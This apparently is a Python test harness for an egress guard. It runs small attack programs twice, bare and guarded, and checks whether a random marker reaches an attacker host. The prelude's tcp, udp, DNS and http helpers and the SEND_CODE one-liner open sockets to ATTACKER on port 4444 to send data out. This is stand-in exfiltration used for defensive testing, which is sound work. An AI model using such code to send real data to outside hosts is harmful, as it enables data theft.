"""One attack: a small program that tries to bring a marker to the attacker.

It is run twice as the unprivileged user. Bare, the marker must arrive: an attack that cannot succeed
proves nothing, and is skipped with its reason where this kernel lacks what it needs. Guarded, the
marker must not arrive, and (unless `silent` is off) not one packet either.
"""

import base64
import dataclasses
import os
import pathlib
import threading

from . import space
from .cases import Case
from .internet import ATTACKER, ATTACKER6, MACHINE, RESOLVER, WWW

POLICY = f"""\
{RESOLVER}:53/udp
www.allowed.example:80|443
{WWW}:7000
"""

# In the environment: the whole suite in audit mode (tests/attack/audit).
AUDIT = "EGRESS_ATTACK_AUDIT"
audit_stops = {}   # name of an attack: why it does not arrive in audit mode either
audit_misses = {}  # why nothing is written down of it there

# What every python attack may use.
PRELUDE = """
import ctypes, errno, os, re, select, signal, socket, ssl, struct, subprocess, sys, time
MARKER, ATTACKER, ATTACKER6 = (os.environ[k] for k in ("MARKER", "ATTACKER", "ATTACKER6"))
mark = MARKER.encode()
socket.setdefaulttimeout(3)
PATIENCE = float(os.environ["PATIENCE"])  # how long to listen to a peer that may have no more to say

def tcp(port=4444, host=ATTACKER, data=mark):
    s = socket.create_connection((host, port)); s.sendall(data); s.recv(100); return s

def udp(port=4444, host=ATTACKER, data=mark):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(data, (host, port)); s.recv(500)

def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.split(".")) + b"\\0"

def query(text, kind=1, more=b"", additional=0):
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, additional) + name(text) \\
        + struct.pack(">HH", kind, 1) + more

def http(text, port=80, host=None):
    address = socket.gethostbyname(host) if host else ATTACKER
    s = socket.create_connection((address, port))
    s.sendall(text.replace("\\n", "\\r\\n").encode("latin-1"))
    drain(s)

def drain(s):
    s.settimeout(PATIENCE)
    try:
        while s.recv(65536): pass
    except OSError: pass
"""


# For shell attacks that need one more program: python3 -c "$CODE".
SEND_CODE = ("import os, socket; s = socket.create_connection((os.environ['ATTACKER'], 4444)); "
             "s.sendall(os.environ['MARKER'].encode()); s.recv(10)")


@dataclasses.dataclass
class Attack:
    name: str
    program: str                # python after the prelude; with shell or source, see there
    policy: str = POLICY
    shell: bool = False         # the program is a shell script
    source: str = ""            # C file in programs/, compiled; the program is its argument
    logged: bool = True         # a refusal with the process stands in the log
    silent: bool = True         # not one packet reaches the attacker
    forms: object = None        # marker -> the byte strings to look for; default: as it is, in base64
    exact: bool = False         # those byte strings in this very case
    needs: object = None        # () -> why this kernel cannot do it, or None
    during: object = None       # (case, marker): runs in a thread beside it, on the machine's side
    prepare: object = None      # (case, marker): runs before it, unguarded
    keywords: object = None     # (case) -> keyword arguments for the process
    options: tuple = ()         # more of egress-run's
    open: str = ""              # why it still gets through: a later issue's work


def python(attack):
    return ["/usr/bin/python3", "-c", PRELUDE + attack.program]


def forms_of(attack, marker):
    if attack.forms:
        return attack.forms(marker)
    return [marker.encode(), base64.b64encode(marker.encode())]


def kernel_lacks(family, kind, protocol, what):
    """For `needs`: whether root can open such a socket here at all."""
    import socket

    def check():
        try:
            socket.socket(family, kind, protocol).close()
        except OSError as error:
            return f"no {what} in this kernel ({error.strerror})"
        return None
    return check


class AttackCase(Case):
    """A test class over a table: @expand, and a method `attack` with @attacks(TABLE)."""

    def carry_out(self, attack):
        reason = attack.needs() if attack.needs else None
        if reason:
            self.skipTest(reason)
        if AUDIT in os.environ:
            self.carry_out_audited(attack)
            return
        self.assert_works_bare(attack)
        arrived, result, packets = self._once(attack, guarded=True)
        leaked = "the marker arrived" if arrived else ""
        if not leaked and attack.silent and packets:
            leaked = f"{len(packets)} packets arrived: {packets[0].hex()}"
        if attack.open:
            self.assertTrue(leaked, f"no longer open: take the mark away\n{result}")
            self.skipTest(f"OPEN: {attack.open}")
        self.assertFalse(leaked, f"{leaked}\n{result}")
        self.assertIsNotNone(result.status, f"did not end by itself\n{result}")
        if attack.logged:
            self.assert_logged(result)

    def carry_out_audited(self, attack):
        """Nothing is refused, and what would have been is written down."""
        arrived, result, _ = self._once(attack, guarded=True, options=["--audit"])
        stopped = audit_stops.get(attack.name)
        if stopped:
            self.assertFalse(arrived, f"it does arrive: take it off the list\n{result}")
            self.skipTest(f"does not arrive: {stopped}")
        self.assertTrue(arrived, f"it did not arrive\n{result}")
        if attack.logged and not attack.open and attack.name not in audit_misses:
            self.assert_logged(result)

    def assert_works_bare(self, attack):
        arrived, result, _ = self._once(attack, guarded=False)
        self.assertTrue(arrived, f"does not work without a guard either\n{result}")

    def assert_logged(self, result):
        refusals = [event for event in result.log if event.get("reason") and
                    (event.get("policy") == "deny" or event["type"] == "error" or "error" in event)
                    and event.get("error") != "refused_in_sum"]
        self.assertTrue(refusals, f"no refusal in the log\n{result}")
        for event in refusals:
            self.assertIn("pid", event, result)
            # An executable without a path that can be trusted is not named.
            self.assertTrue(event.get("exe") or event.get("cmdline"), result)

    def _once(self, attack, guarded, options=()):
        marker = os.urandom(10).hex()
        forms = forms_of(attack, marker)
        keywords = {"env": {"MARKER": marker, "ATTACKER": ATTACKER, "ATTACKER6": ATTACKER6,
                           "MACHINE": MACHINE, "CA": str(self.net.ca_bundle),
                           "GUARDED": "yes" if guarded else "no",
                           "CODE": SEND_CODE, "PATIENCE": "1" if guarded else "0.2",
                           "FRESH": str(self.net.fresh_directory())}}
        if attack.keywords:
            keywords.update(attack.keywords(self))
        if attack.prepare:
            attack.prepare(self, marker)
        self.oracle.mark()
        helper = None
        if attack.during:
            helper = threading.Thread(target=attack.during, args=(self, marker), daemon=True)
            helper.start()
        argv = self._argv(attack)
        result = (self.machine.guarded(argv, attack.policy, options=[*attack.options, *options], **keywords) if guarded
                  else self.machine.plain(argv, **keywords))
        if helper:
            helper.join(timeout=10)
        if guarded:
            self.oracle.fence()
            return self.oracle.holds(*forms, exact=attack.exact), result, self.oracle.packets()
        return self.oracle.wait_for(*forms, seconds=2, exact=attack.exact), result, None

    def _argv(self, attack):
        if attack.source:
            return [self._compiled(attack.source), attack.program]
        if attack.shell:
            return ["sh", "-c", attack.program]
        return python(attack)

    def _compiled(self, source):
        path = pathlib.Path(__file__).resolve().parents[1] / "attack" / "programs" / source
        output = self.net.dir / path.stem
        if not output.exists():
            space.run("cc", "-O1", "-Wall", "-o", output, path)
        return output


def attacks(table):
    """Decorates `def attack(self, attack)`; see cases.rows."""
    def decorate(method):
        method.rows = [(attack.name, (attack,)) for attack in table]
        return method
    return decorate

